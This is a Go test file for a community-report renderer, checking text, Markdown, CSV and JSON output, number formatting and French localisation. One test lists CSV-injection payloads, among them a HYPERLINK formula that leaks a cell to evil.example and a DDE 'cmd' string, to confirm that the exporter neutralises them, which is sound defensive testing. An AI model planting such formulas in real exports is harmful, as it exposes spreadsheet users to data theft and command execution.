package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"praxis/bot/report"
	"praxis/bot/report/render/rendertest"
)

func render(t *testing.T, f Format, rs ...*report.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := Render(&b, rs, f); err != nil {
		t.Fatalf("Render %s: %v", f, err)
	}
	return b.String()
}

func TestParseFormat(t *testing.T) {
	formats := map[string]Format{
		"text":     Text,
		"Markdown": Markdown,
		"md":       Markdown,
		" html ":   HTML,
		"csv":      CSV,
		"JSON":     JSON,
	}
	for in, want := range formats {
		got, err := ParseFormat(in)
		if err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	_, err := ParseFormat("pdf")
	if err == nil || !strings.Contains(err.Error(), `"pdf"`) ||
		!strings.Contains(err.Error(), "text, markdown, html, csv, json") {
		t.Fatalf("got %v, want an error naming pdf and listing the formats", err)
	}
	if err := Render(&bytes.Buffer{}, nil, Format("pdf")); err == nil {
		t.Fatal("Render accepted an unknown format")
	}
	for _, f := range Formats {
		if err := Render(&bytes.Buffer{}, []*report.Report{rendertest.Sample("en"), nil}, f); err == nil {
			t.Errorf("%s: a nil report rendered", f)
		}
	}
	if Summary(nil) != "" || Blocks(nil) != nil {
		t.Error("nil report: want no summary and no blocks")
	}
	if _, err := ChartPNG(nil, ChartActive); err == nil {
		t.Error("nil report: a chart")
	}
}

func TestTextEnglish(t *testing.T) {
	out := render(t, Text, rendertest.Sample("en"))
	for _, want := range []string{
		"Platform guild — 2026-W47",
		"Nov 16, 2026 to Nov 22, 2026 (Europe/Paris)", // the period's last day, not its exclusive end
		"Changes are against 2026-W46.",
		"Week over week",
		"Active members           42        39  ▲ +3",
		"New members               3         5  ▼ −2",
		"Messages             12,345    12,000  ▲ +345",
		"Questions asked          14        14  = 0",
		"Questions answered    78.5%       70%  ▲ +8.5 pts",
		"Median first answer   3.5 h         —  —",
		"21 h  Dana Scully  #platform-help  Helm chart values: override per…  escalated, 2 members asked",
		"4 d  Chen Wei     #platform       How do we rotate TLS certificat…  —",
		"      https://example.slack.com/archives/C0PLAT/p1700000000000100",
		"Farid Haddad  Nov 19, 2026  yes     no",
		"Hugo Martin         4        6        9",
		"Jonas Berg   6/week  0.5/week",
		"Half of the messages came from 4 members (absence factor).",
		"Kofi Mensah  Data guild, SRE",
		"18 of 40 (45%)",
		"Lift                                   ▲ +21.3 pts (p = 0.021)",
		"3 moved up from Participants to Contributors",
		"1 moved down from Core to Contributors",
		"Connected              64%  ▲ +4 pts        ▁▁▂▃▃▄▅▆▆▇██",
		"Trends over 12 weeks",
		"2026-W38              33      9         9                    —",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text lacks %q", want)
		}
	}
	checkColumns(t, out)
}

func TestTextFrench(t *testing.T) {
	out := render(t, Text, rendertest.Sample("fr"))
	for _, want := range []string{
		"Guilde sécurité — 2026-W47",
		"du 16/11/2026 au 22/11/2026 (Europe/Paris)",
		"Sur une semaine",
		"Messages                    12\u202f345  12\u202f000  ▲ +345",
		"Questions avec réponse      78,5\u00a0%    70\u00a0%  ▲ +8,5 pts",
		"Première réponse (médiane)   3,5 h       —  —",
		"4 j  Chen Wei",
		"Effet                                  ▲ +21,3 pts (p = 0,021)",
		"1 est redescendu de Noyau à Contributeurs",
		"La moitié des messages viennent de 4 membres (facteur d'absence).",
		"Tendances sur 12 semaines",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text lacks %q", want)
		}
	}
	for _, english := range []string{"Week over week", "Open questions", "not enough data"} {
		if strings.Contains(out, english) {
			t.Errorf("French text has %q", english)
		}
	}
}

func TestTextEmptyAndNotSignificant(t *testing.T) {
	r := rendertest.Empty("en")
	r.Nudges = report.NudgeEffect{
		Sent:               3,
		Nudged:             3,
		NudgedContributed:  2,
		Holdout:            2,
		HoldoutContributed: 0,
		Lift:               41.9,
		PValue:             0.4,
	}
	out := render(t, Text, r)
	for _, want := range []string{
		"Median first answer      —         —  —",
		"Every question asked this period has an answer.",
		"No older question is waiting.",
		"No newcomer this period.",
		"not enough data to tell (3 nudged, 2 held out)",
		"Absence factor: not enough messages.",
		"\nTrends\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text lacks %q", want)
		}
	}
	if strings.Contains(out, "41.9") {
		t.Error("a lift that is not significant is shown")
	}
}

// checkColumns fails when a line is wider than textColumns, unless it is
// a URL alone (cut, it could not be opened).
func checkColumns(t *testing.T, out string) {
	t.Helper()
	for _, l := range strings.Split(out, "\n") {
		if textWidth(l) > textColumns && !strings.HasPrefix(strings.TrimSpace(l), "http") {
			t.Errorf("line of %d columns: %q", textWidth(l), l)
		}
	}
}

func TestTextLongNamesFit(t *testing.T) {
	r := rendertest.Sample("en")
	long := strings.Repeat("Très long nom 名前 ", 30)
	r.Community = long
	r.Questions.Open[0].Text = long
	r.Questions.Open[0].Asker.Name = long
	r.Questions.Open[0].ChannelName = long
	r.TopHelpers[0].Person.Name = long
	r.Risk.Bridges[0].Communities = []string{long, long}
	r.Members.Core = append(r.Members.Core, report.Person{Name: long})
	out := render(t, Text, r, rendertest.Sample("fr"))
	checkColumns(t, out)
	if !strings.Contains(out, "…") {
		t.Error("long texts were not shortened")
	}
	if !strings.Contains(out, strings.Repeat("═", textColumns)) {
		t.Error("no rule between two communities")
	}
}

func TestMarkdown(t *testing.T) {
	r := rendertest.Sample("en")
	r.Questions.Open[0].Text = "Why does *this* | break [tables](x) <b>?"
	r.TopHelpers[0].Person.Name = "# not_a_heading"
	out := render(t, Markdown, r, rendertest.Sample("fr"))
	for _, want := range []string{
		"## Platform guild — 2026-W47",
		"| Figure | Value | Previous | Week over week |\n|---|---:|---:|---|\n",
		"| Questions answered | 78.5% | 70% | ▲ +8.5 pts |",
		"| 4 d | Chen Wei | \\#platform | [How do we rotate TLS certificates on the edge proxies?]" +
			"(https://example.slack.com/archives/C0PLAT/p1700000000000100) | — |",
		`[Why does \*this\* \| break \[tables\](x) &lt;b&gt;?](https://example.slack.com/archives/C0HELP/p1700000500000200)`,
		"| \\# not\\_a\\_heading | 4 | 6 | 9 |",
		"- Lift: **▲ +21.3 pts (p = 0.021)**",
		"## Guilde sécurité — 2026-W47",
		"\n---\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown lacks %q", want)
		}
	}
}

func TestCSV(t *testing.T) {
	en, fr := rendertest.Sample("en"), rendertest.Sample("fr")
	fr.Community = `Guilde "sécurité", Lyon`
	out := render(t, CSV, en, fr)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v", err)
	}
	if diff := cmp.Diff(CSVHeader, rows[0]); diff != "" {
		t.Fatalf("header (-want +got):\n%s", diff)
	}
	type key struct{ community, period, metric string }
	got := map[key][]string{}
	for _, row := range rows[1:] {
		k := key{row[0], row[1], row[4]}
		if _, dup := got[k]; dup {
			t.Errorf("two rows for %v", k)
		}
		got[k] = row
	}
	for k, want := range map[key][]string{
		{"Platform guild", "2026-W47", report.FigActiveMembers}:           {"42", "39", "3", ""},
		{"Platform guild", "2026-W47", report.FigAnsweredPercent}:         {"78.5", "70", "8.5", "percent"},
		{"Platform guild", "2026-W47", report.FigMedianResponse}:          {"3.5", "", "", "hours"},
		{"Platform guild", "2026-W47", "questions.open"}:                  {"27", "", "", ""},
		{"Platform guild", "2026-W47", "questions.open_this_period"}:      {"3", "", "", ""},
		{"Platform guild", "2026-W47", "helpers"}:                         {"5", "", "", ""},
		{"Platform guild", "2026-W47", "members.level.core"}:              {"11", "", "", ""},
		{"Platform guild", "2026-W47", "nudges.lift_points"}:              {"21.3", "", "", "points"},
		{"Platform guild", "2026-W47", "marks.cooperation"}:               {"2.4", "2.1", "0.2999999999999998", ""},
		{"Platform guild", "2026-W38", "trend.median_first_answer_hours"}: {"", "", "", "hours"},
		{"Platform guild", "2026-W47", "trend.active_members"}:            {"42", "", "", ""},
		{`Guilde "sécurité", Lyon`, "2026-W47", report.FigMessages}:       {"12345", "12000", "345", ""},
	} {
		row, ok := got[k]
		if !ok {
			t.Errorf("no row for %v", k)
			continue
		}
		if diff := cmp.Diff(want, row[5:]); diff != "" {
			t.Errorf("%v (-want +got):\n%s", k, diff)
		}
	}
	row := got[key{"Platform guild", "2026-W47", report.FigActiveMembers}]
	if row[2] != "2026-11-16T00:00:00+01:00" || row[3] != "2026-11-23T00:00:00+01:00" {
		t.Errorf("period bounds %q %q, want RFC 3339 in the community's zone", row[2], row[3])
	}
	if _, ok := got[key{"Quiet corner", "2026-W47", "nudges.lift_points"}]; ok {
		t.Error("a lift that is not significant is in the CSV")
	}
}

// A text cell a spreadsheet would run as a formula (CSV injection) is
// neutralised with a leading quote; numbers, negative ones included, stay
// numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3",
		"@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	for _, name := range formulas {
		r := rendertest.Sample("en")
		r.Community, r.Period.Label = name, name
		r.Headline = append(r.Headline, report.Figure{Key: "-" + name, Value: 1, Previous: 4, Unit: "@unit"})
		rows, err := csv.NewReader(strings.NewReader(render(t, CSV, r))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows[1:] {
			for _, i := range []int{0, 1, 4, 8} { // community, period, metric, unit
				if c := row[i]; c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
					t.Errorf("%q: cell %d is %q, which a spreadsheet runs", name, i, c)
				}
			}
			if row[0] != "'"+name {
				t.Errorf("got community %q, want %q", row[0], "'"+name)
			}
			if row[4] == "'-"+name {
				found = true
				if row[5] != "1" || row[6] != "4" || row[7] != "-3" || row[8] != "'@unit" {
					t.Errorf("got %q, want the numbers as numbers (change -3) and the unit neutralised", row[5:])
				}
			}
		}
		if !found {
			t.Errorf("%q: no row for the figure", name)
		}
	}
}

func TestJSONRoundTrip(t *testing.T) {
	in := []*report.Report{rendertest.Sample("en"), rendertest.Sample("fr"), rendertest.Empty("en")}
	out := render(t, JSON, in...)
	if !strings.HasPrefix(out, "[\n  {\n    \"community\": \"Platform guild\"") {
		t.Errorf("not an indented array: %.60q", out)
	}
	var back []*report.Report
	if err := json.Unmarshal([]byte(out), &back); err != nil {
		t.Fatal(err)
	}
	// go-cmp compares times with Equal: the same instant, whatever the zone.
	if diff := cmp.Diff(in, back); diff != "" {
		t.Errorf("round trip (-in +out):\n%s", diff)
	}
	if got := render(t, JSON); strings.TrimSpace(got) != "[]" {
		t.Errorf("no report: got %q, want []", got)
	}
}

func TestSummary(t *testing.T) {
	en := Summary(rendertest.Sample("en"))
	for _, want := range []string{
		"Praxis report for Platform guild, 2026-W47\n",
		"Active members 42 (▲ +3)",
		"Questions answered 78.5% (▲ +8.5 pts)",
		"Median first answer 3.5 h (—)",
		"Open questions 27 (▲ +2)",
		"27 open questions (3 asked this period), the oldest waiting for 75 d.",
	} {
		if !strings.Contains(en, want) {
			t.Errorf("summary lacks %q:\n%s", want, en)
		}
	}
	if n := strings.Count(en, "\n"); n < 3 || n > 6 {
		t.Errorf("summary of %d lines, want a few:\n%s", n, en)
	}
	fr := Summary(rendertest.Sample("fr"))
	if !strings.Contains(fr, "Membres actifs 42 (▲ +3)") ||
		!strings.Contains(fr, "27 questions en attente (dont 3 posées sur la période), la plus ancienne depuis 75 j.") {
		t.Errorf("French summary:\n%s", fr)
	}
	if got := Summary(rendertest.Empty("fr")); !strings.Contains(got, "Aucune question en attente.") {
		t.Errorf("got %q", got)
	}
}

func TestNumbers(t *testing.T) {
	en, fr := printer{lang: "en"}, printer{lang: "fr"}
	for _, c := range []struct {
		p    printer
		v    float64
		want string
	}{
		{en, 0, "0"}, {en, 1234, "1234"}, {en, 12345, "12,345"}, {en, 1234567.26, "1,234,567.3"},
		{en, -2.5, "−2.5"}, {en, -0.01, "0"}, {fr, 12345.5, "12\u202f345,5"}, {en, math.NaN(), "—"},
	} {
		if got := c.p.num(c.v); got != c.want {
			t.Errorf("%s num(%v) = %q, want %q", c.p.lang, c.v, got, c.want)
		}
	}
	if got := en.change(report.Figure{Value: 3, Previous: 3.5, Unit: "hours"}); got != "▼ −0.5 h" {
		t.Errorf("got %q", got)
	}
	if got := en.change(report.Figure{Value: 3, Missing: true}); got != "—" {
		t.Errorf("got %q", got)
	}
	if got := en.age(47); got != "47 h" {
		t.Errorf("got %q", got)
	}
	if got := fr.age(72); got != "3 j" {
		t.Errorf("got %q", got)
	}
}
